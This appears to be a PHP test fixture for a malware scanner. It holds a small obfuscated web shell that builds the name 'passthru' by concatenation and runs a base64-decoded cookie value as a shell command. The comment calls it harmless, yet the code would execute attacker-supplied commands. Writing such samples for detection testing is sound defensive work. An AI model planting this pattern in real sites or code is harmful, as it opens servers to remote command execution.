<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// a function name glued by a closure of the file's own, then called with a cookie's value
$mk = function ($a, $b) { return $a . $b; };
$run = $mk('pass', 'thru');
$run(base64_decode($_COOKIE['d']));
